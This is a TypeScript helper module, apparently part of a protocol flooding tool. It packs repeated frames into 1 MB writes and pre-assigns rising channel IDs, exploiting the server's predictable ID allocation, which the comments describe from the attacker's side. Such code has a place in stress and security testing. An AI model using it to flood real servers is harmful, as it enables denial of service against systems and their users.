/**
 * Many frames as one write.
 *
 * @module
 */
import { concat } from "../support/wire.ts";

/** Bytes per write of a flood. */
const BATCH_SIZE = 1024 * 1024;

/** One frame repeated to fill a write. */
export function repeated(frame: Uint8Array): Uint8Array {
  const count = Math.max(1, Math.floor(BATCH_SIZE / frame.length));
  const batch = new Uint8Array(count * frame.length);
  for (let at = 0; at < batch.length; at += frame.length) batch.set(frame, at);
  return batch;
}

/**
 * Frames for one channel after another; each call continues where the last one
 * ended. The server assigns channel IDs upwards from 0, so the attacker can use
 * an ID before the server has confirmed it.
 */
export function counting(frames: Uint8Array[]): () => Uint8Array {
  const one = concat(...frames);
  const batch = repeated(one);
  const view = new DataView(batch.buffer);
  let id = 0;
  return () => {
    for (let at = 0; at < batch.length; id++) {
      for (const frame of frames) {
        // The first field of every frame is the channel ID.
        view.setUint32(at + 1, id);
        at += frame.length;
      }
    }
    return batch;
  };
}
